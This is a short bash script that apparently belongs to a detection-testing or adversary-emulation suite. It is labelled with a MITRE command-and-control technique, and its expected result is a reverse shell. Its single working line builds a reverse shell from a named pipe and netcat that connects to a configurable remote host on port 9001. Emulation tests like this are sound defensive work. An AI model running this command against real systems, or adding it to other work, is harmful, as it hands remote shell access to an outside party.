#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1095 Non-Application Layer Protocol
# behaviour: a reverse shell through a named pipe and netcat (no -e needed): sh reads the fifo, nc carries it
# as: user
# needs: remote
# expect: reverse_shell
set -u
f=$SNTL_TMP/f; mkfifo "$f"
timeout 20 sh -c "cat $f | /bin/sh -i 2>&1 | nc $SNTL_REMOTE 9001 > $f" 2>/dev/null || true
